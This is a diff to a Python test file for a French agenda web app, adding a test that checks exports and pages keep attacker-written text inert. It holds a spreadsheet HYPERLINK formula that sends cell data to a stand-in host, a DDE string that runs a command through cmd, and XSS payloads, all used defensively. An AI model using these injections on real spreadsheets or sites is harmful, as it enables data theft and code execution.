@@ -69,7 +69,7 @@ def test_agenda_settings_are_configurable(client, small_campaign: SmallCampaign)
     assert body["end"] == "15:10"
     refused = client.get(url, params={"start": "25:00"})
     assert refused.status_code == 422
-    assert "Heure de début" in refused.json()["error"]["message"]
+    assert "heure de début" in refused.json()["error"]["message"]
 
 
 def test_agenda_pdf_is_readable(client, small_campaign: SmallCampaign) -> None:
@@ -138,3 +138,46 @@ def test_meeting_pages_render(client, small_campaign: SmallCampaign) -> None:
     refused = client.get(f"/reunion/{small_campaign.id}")
     assert refused.status_code == 403
     assert "réservée à l'administrateur" in html.unescape(refused.text)
+
+
+HOSTILE_NAME = '=HYPERLINK("http://exemple.test/?v="&A1;"Voir") <img src=x onerror=alert(1)>'
+HOSTILE_ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"
+HOSTILE_RATIONALE = "+1+1 <script>alert(2)</script> $\\frac{1}{0}$"
+
+
+def _make_hostile(small_campaign: SmallCampaign) -> None:
+    """R3 (harmonised) and R1 get names, addresses and a rationale written by an attacker."""
+    from sqlalchemy import text
+
+    with small_campaign.engine.begin() as conn:
+        conn.execute(
+            text("UPDATE residence SET name = :n, address = :a WHERE code IN ('R1', 'R3')"),
+            {"n": HOSTILE_NAME, "a": HOSTILE_ADDRESS},
+        )
+        conn.execute(
+            text("UPDATE harmonisation SET rationale = :r WHERE campaign_id = :c"),
+            {"r": HOSTILE_RATIONALE, "c": small_campaign.id},
+        )
+
+
+def test_agenda_outputs_keep_hostile_text_as_text(client, small_campaign: SmallCampaign) -> None:
+    """XLSX: never a formula; PDF: the text as written; page: escaped HTML."""
+    _make_hostile(small_campaign)
+    login(client, small_campaign.emails["admin"])
+    base = f"/api/campaigns/{small_campaign.id}"
+    book = load_workbook(BytesIO(client.get(f"{base}/agenda.xlsx").content))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
+    assert {"'" + HOSTILE_NAME, "'" + HOSTILE_ADDRESS, "'" + HOSTILE_RATIONALE} <= texts
+
+    pdf = client.get(f"{base}/agenda.pdf")
+    assert pdf.status_code == 200
+    assert "onerror=alert(1)" in "".join(
+        p.extract_text() for p in PdfReader(BytesIO(pdf.content)).pages
+    )
+
+    page = client.get(f"/reunion/{small_campaign.id}/ordre-du-jour")
+    assert page.status_code == 200
+    assert "<img src=x" not in page.text and "<script>alert" not in page.text
+    assert "&lt;img src=x onerror=alert(1)&gt;" in page.text
